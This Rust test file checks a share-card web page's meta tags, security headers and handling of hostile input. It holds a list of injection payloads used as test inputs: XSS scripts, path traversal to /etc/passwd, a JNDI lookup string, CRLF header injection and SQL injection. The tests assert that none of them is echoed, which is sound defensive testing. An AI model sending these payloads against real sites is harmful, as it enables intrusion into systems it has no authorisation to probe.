//! Router tests: the whole app in-process through `oneshot`, HTML read with a real parser.

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use clap::Parser;
use http_body_util::BodyExt;
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use scraper::{Html, Selector};
use share_tags::{ShareTags, social_id_from_query};
use shared_ids::{CURRENT_DESIGN, SocialId};
use tower::ServiceExt;

use crate::{Args, Config, router};

const DEFAULT_URL: &str = "http://127.0.0.1:3001/default.jpg";

/// The card URL of `12-34-10` under the local defaults, in the current design.
fn card_url() -> String {
    format!("http://127.0.0.1:3001/{CURRENT_DESIGN}/12-34-10.jpg")
}

struct Page {
    status: StatusCode,
    headers: axum::http::HeaderMap,
    body: String,
}

impl Page {
    fn meta(&self, attr: &str, name: &str) -> Vec<String> {
        let html = Html::parse_document(&self.body);
        let selector = Selector::parse(&format!("meta[{attr}=\"{name}\"]")).unwrap();
        html.select(&selector)
            .filter_map(|m| m.value().attr("content").map(str::to_owned))
            .collect()
    }

    fn og_image(&self) -> String {
        let images = self.meta("property", "og:image");
        assert_eq!(images.len(), 1, "exactly one og:image: {images:?}");
        images[0].clone()
    }
}

async fn get_with(config: Config, uri: &str, extra: &[(&str, &str)]) -> Page {
    let mut request = Request::get(uri);
    for (name, value) in extra {
        request = request.header(*name, *value);
    }
    let response = router(config)
        .oneshot(request.body(Body::empty()).unwrap())
        .await
        .unwrap();
    let status = response.status();
    let headers = response.headers().clone();
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    Page {
        status,
        headers,
        body: String::from_utf8(bytes.to_vec()).expect("pages are UTF-8"),
    }
}

async fn get(uri: &str) -> Page {
    get_with(Config::local_defaults(), uri, &[]).await
}

fn https_config() -> Config {
    Config::try_from(Args::parse_from([
        "main-site",
        "--addr=127.0.0.1:0",
        "--public-url=https://www.example.com",
        "--image-base-url=https://img.example.com",
        "--site-name=Example",
    ]))
    .unwrap()
}

#[tokio::test]
async fn a_valid_id_gets_its_card_in_every_image_tag() {
    let page = get("/?social=12-34-10").await;
    assert_eq!(page.status, StatusCode::OK);
    assert_eq!(page.og_image(), card_url());
    assert_eq!(page.meta("name", "twitter:image"), [card_url()]);
    assert_eq!(page.meta("name", "twitter:card"), ["summary_large_image"]);
    assert_eq!(page.meta("property", "og:image:type"), ["image/jpeg"]);
    assert_eq!(page.meta("property", "og:image:width"), ["2400"]);
    assert_eq!(page.meta("property", "og:image:height"), ["1260"]);
    assert_eq!(
        page.meta("property", "og:url"),
        ["http://127.0.0.1:3000/?social=12-34-10"]
    );
    assert_eq!(page.meta("property", "og:type"), ["website"]);
    assert_eq!(page.meta("property", "og:site_name"), ["ogshot"]);
    // What the card shows, in the design's words, for screen readers.
    let wording = Config::local_defaults().site.wording;
    let alt = wording.image_alt(SocialId::parse("12-34-10").unwrap());
    assert!(alt.starts_with("The launch card"), "{alt}");
    assert_eq!(
        page.meta("property", "og:image:alt"),
        std::slice::from_ref(&alt)
    );
    assert_eq!(page.meta("name", "twitter:image:alt"), [alt]);
    assert_eq!(page.meta("property", "og:title").len(), 1);
    assert_eq!(page.meta("property", "og:description").len(), 1);
    assert!(page.meta("property", "og:image:secure_url").is_empty());
    let html = Html::parse_document(&page.body);
    let canonical: Vec<_> = html
        .select(&Selector::parse("link[rel=canonical]").unwrap())
        .filter_map(|l| l.value().attr("href"))
        .collect();
    assert_eq!(canonical, ["http://127.0.0.1:3000/?social=12-34-10"]);
    let card: Vec<_> = html
        .select(&Selector::parse("main img").unwrap())
        .filter_map(|l| l.value().attr("src"))
        .collect();
    assert_eq!(card, [card_url()], "visitors see the card itself");
}

#[tokio::test]
async fn https_bases_add_secure_url_and_hsts() {
    let page = get_with(https_config(), "/?social=01-02-03", &[]).await;
    let card = format!("https://img.example.com/{CURRENT_DESIGN}/01-02-03.jpg");
    assert_eq!(page.og_image(), card);
    assert_eq!(page.meta("property", "og:image:secure_url"), [card]);
    assert!(page.headers.contains_key(header::STRICT_TRANSPORT_SECURITY));
    let csp = page.headers[header::CONTENT_SECURITY_POLICY]
        .to_str()
        .unwrap();
    assert!(
        csp.contains("img-src 'self' https://img.example.com;"),
        "{csp}"
    );
    assert!(
        !get("/")
            .await
            .headers
            .contains_key(header::STRICT_TRANSPORT_SECURITY)
    );
}

/// One tag set for every app: the page's head is share-tags' rendering of it, byte for
/// byte, and carries no other share tag.
#[tokio::test]
async fn the_head_carries_the_share_tag_set_byte_for_byte() {
    let hostile_name = Config::try_from(Args {
        site_name: "Ex <&> \"q\" 'a'".into(),
        ..Args::parse_from(["main-site"])
    })
    .unwrap();
    for config in [Config::local_defaults(), https_config(), hostile_name] {
        for uri in ["/?social=12-34-10", "/?social=bad", "/"] {
            let page = get_with(config.clone(), uri, &[]).await;
            let query = uri.split_once('?').map(|(_, query)| query);
            let tags = ShareTags::new(&config.site, social_id_from_query(query));
            // Leptos writes `<!>` where an absent optional node would be (a hydration
            // placeholder); values are escaped, so none can come from them.
            let body = page.body.replace("<!>", "");
            assert!(body.contains(&tags.to_html()), "{uri}: {body}");
            let share_tags = body.matches("<meta property=").count()
                + body.matches("<meta name=\"twitter:").count();
            assert_eq!(share_tags, tags.meta().len(), "{uri}");
        }
    }
}

#[tokio::test]
async fn share_links_carry_the_encoded_canonical_url() {
    let page = get_with(https_config(), "/?social=12-34-10", &[]).await;
    let html = Html::parse_document(&page.body);
    let hrefs: Vec<_> = html
        .select(&Selector::parse(".share a").unwrap())
        .filter_map(|a| a.value().attr("href").map(str::to_owned))
        .collect();
    let encoded = "https%3A%2F%2Fwww%2Eexample%2Ecom%2F%3Fsocial%3D12%2D34%2D10";
    assert_eq!(
        hrefs,
        [
            format!("https://www.facebook.com/sharer/sharer.php?u={encoded}"),
            format!("https://x.com/intent/post?url={encoded}"),
            format!("https://www.linkedin.com/sharing/share-offsite/?url={encoded}"),
        ]
    );
}

#[tokio::test]
async fn security_headers_are_strict() {
    let page = get("/?social=12-34-10").await;
    let h = |name: header::HeaderName| page.headers[name].to_str().unwrap().to_owned();
    let csp = h(header::CONTENT_SECURITY_POLICY);
    for directive in [
        "default-src 'none'",
        "img-src 'self' http://127.0.0.1:3001;",
        "style-src 'self'",
        "frame-ancestors 'none'",
        "base-uri 'none'",
    ] {
        assert!(csp.contains(directive), "{directive} missing from {csp}");
    }
    assert!(!csp.contains("script-src"), "the page needs no script");
    assert!(!page.body.contains("<script"), "the page has no script");
    assert_eq!(h(header::X_CONTENT_TYPE_OPTIONS), "nosniff");
    assert_eq!(
        h(header::REFERRER_POLICY),
        "strict-origin-when-cross-origin"
    );
    assert_eq!(h(header::CONTENT_TYPE), "text/html; charset=utf-8");
}

#[tokio::test]
async fn hosts_come_from_configuration_never_from_the_request() {
    let spoofed = get_with(
        Config::local_defaults(),
        "/?social=12-34-10",
        &[
            ("host", "evil.example"),
            ("x-forwarded-host", "evil.example"),
            ("x-forwarded-proto", "https"),
            ("forwarded", "host=evil.example;proto=https"),
        ],
    )
    .await;
    assert_eq!(spoofed.body, get("/?social=12-34-10").await.body);
    assert!(!spoofed.body.contains("evil.example"));
}

#[tokio::test]
async fn health_robots_and_stylesheet_are_served() {
    assert_eq!(get("/healthz").await.body, "ok");
    let robots = get("/robots.txt").await;
    assert_eq!(robots.status, StatusCode::OK);
    assert!(robots.body.contains("Allow: /"));
    assert!(!robots.body.contains("Disallow: /"));
    let css = get(crate::page::STYLESHEET_PATH).await;
    assert_eq!(css.headers[header::CONTENT_TYPE], "text/css; charset=utf-8");
    assert_eq!(get("/nope").await.status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn only_get_and_head_are_allowed() {
    let response = router(Config::local_defaults())
        .oneshot(
            Request::post("/?social=12-34-10")
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::METHOD_NOT_ALLOWED);
    let head = router(Config::local_defaults())
        .oneshot(
            Request::head("/?social=12-34-10")
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(head.status(), StatusCode::OK);
}

/// Hostile values of `social`, as the attacker means them (sent percent-encoded).
fn hostile_values() -> Vec<String> {
    let mut values: Vec<String> = [
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "\" onmouseover=\"alert(1)",
        "' onerror='alert(1)",
        "12-34-10\"><script>alert(document.cookie)</script>",
        "12-34-10\" /><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "https://evil.example/x.jpg",
        "//evil.example/x.jpg",
        "../../../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "%2e%2e/%2e%2e/secret",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe src=//evil.example>",
        "</title><script>alert(1)</script>",
        "</head><body onload=alert(1)>",
        "--><script>alert(1)</script>",
        "<!--#exec cmd=\"ls\"-->",
        "{{7*7}}-template",
        "${jndi:ldap://evil.example/a}",
        "12-34-10\r\nSet-Cookie: pwned=1",
        "12-34-10\r\nLocation: https://evil.example",
        "\r\n\r\n<html>injected</html>",
        "12-34-10\u{0}",
        "\u{0}12-34-10",
        "12-34-10\n",
        " 12-34-10",
        "12-34-10 ",
        "12-34-10\t",
        "１２-３４-１０",
        "١٢-٣٤-١٠",
        "12‐34‐10",
        "12–34–10",
        "12\u{ad}34-10",
        "\u{feff}12-34-10",
        "12-34-10\u{200b}",
        "%31%32-34-10",
        "%2531%2532-34-10",
        "12%2D34%2D10",
        "12-34-10%00",
        "12-34-10%0d%0aX-Injected:%201",
        "&#49;&#50;-34-10",
        "12&#x2d;34&#x2d;10",
        "12-34-10.jpg",
        "12-34-10/../../default",
        "12-34-10?x=<script>",
        "12-34-10#<script>",
        "\\\"><script>alert(1)</script>",
        "AAAA-BBBB-CCCC",
        "99-99-999",
        "1-2-3",
        "-12-34-10",
        "+12-34-10",
        "0x12-34-10",
        "12-34-10' OR '1'='1",
        "'; DROP TABLE cards; --",
        "<style>@import'//evil.example/x.css';</style>",
        "expression(alert(1))-css",
        "🙂🙂-🙂🙂-🙂🙂",
        "\u{202e}01-43-21",
    ]
    .into_iter()
    .map(String::from)
    .collect();
    // The largest value an `http::Uri` can hold (u16::MAX - 1 bytes in all); a 100 KB
    // value is refused before routing, see `a_100_kb_value_over_real_http_gets_a_clear_4xx`.
    values.push("a".repeat(60 * 1024));
    values.push(format!("12-34-10{}", "<".repeat(5000)));
    values.sort();
    values.dedup();
    values
}

/// Raw query strings that pollute or malform the parameter itself.
const HOSTILE_QUERIES: &[&str] = &[
    "social=12-34-10&social=99-99-99",
    "social=12-34-10&social=%22%3E%3Cscript%3E",
    "social=%22%3E%3Cscript%3E&social=12-34-10",
    "social%5B%5D=12-34-10",
    "social",
    "social=",
    "=12-34-10",
    "social=12-34-10=x",
    "social=12-34-10;x=1",
    "social=%FF%FE%FD",
    "social=%C0%AE%C0%AE",
    "social=%ED%A0%80",
    "social=12-34-10+",
    "social=+12-34-10",
    "SOCIAL=12-34-10",
    "soc%69al=12-34-10",
    "%73ocial=12-34-10",
];

#[tokio::test]
async fn hostile_values_get_the_default_page_and_are_never_echoed() {
    let baseline = get("/").await;
    assert_eq!(baseline.og_image(), DEFAULT_URL);
    let values = hostile_values();
    assert!(
        values.len() >= 60,
        "keep at least 60 hostile values, have {}",
        values.len()
    );
    let mut queries: Vec<(String, String)> = values
        .iter()
        .map(|v| {
            (
                format!("social={}", utf8_percent_encode(v, NON_ALPHANUMERIC)),
                v.clone(),
            )
        })
        .collect();
    queries.extend(
        HOSTILE_QUERIES
            .iter()
            .map(|q| (q.to_string(), q.to_string())),
    );
    for (query, payload) in &queries {
        let page = get(&format!("/?{query}")).await;
        let shown = payload.chars().take(60).collect::<String>();
        assert_eq!(page.status, StatusCode::OK, "{shown:?}");
        assert_eq!(page.og_image(), DEFAULT_URL, "{shown:?}");
        // Built from the parsed id only: an invalid value yields exactly the page
        // with no parameter at all, so no byte of the payload can be in it.
        assert_eq!(page.body, baseline.body, "{shown:?} changed the page");
        if !baseline.body.contains(payload.as_str()) {
            assert!(!page.body.contains(payload.as_str()), "{shown:?} echoed");
        }
        assert!(
            !page.headers.contains_key(header::LOCATION),
            "{shown:?} redirected"
        );
    }
}

#[tokio::test]
async fn a_lambda_function_url_event_gets_the_same_page() {
    let event = include_str!("../testdata/function-url-event.json");
    let request = app_host::lambda::request_from_event(event).expect("a Function URL event");
    let response = router(Config::local_defaults())
        .oneshot(request)
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    let body = String::from_utf8(bytes.to_vec()).unwrap();
    let direct = get("/?social=12-34-10").await;
    assert_eq!(body, direct.body);
    assert_eq!(direct.og_image(), card_url());
}

/// hyper refuses URIs longer than `http::Uri` can hold (64 KiB) while parsing the
/// request head, before any router runs: the answer must still be a clear 4xx, not a
/// 5xx, a hang or an echo.
#[tokio::test]
async fn a_100_kb_value_over_real_http_gets_a_clear_4xx() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    let site = test_kit::serve(router(Config::local_defaults())).await;
    let payload = "%3Cscript%3E".repeat(100 * 1024 / 12);
    let mut stream = tokio::net::TcpStream::connect(site.addr).await.unwrap();
    let request =
        format!("GET /?social={payload} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut response = Vec::new();
    stream.read_to_end(&mut response).await.unwrap();
    let response = String::from_utf8_lossy(&response);
    let status: u16 = response[9..12].parse().unwrap();
    assert!((400..500).contains(&status), "got {status}");
    assert!(!response.contains("script"));
}
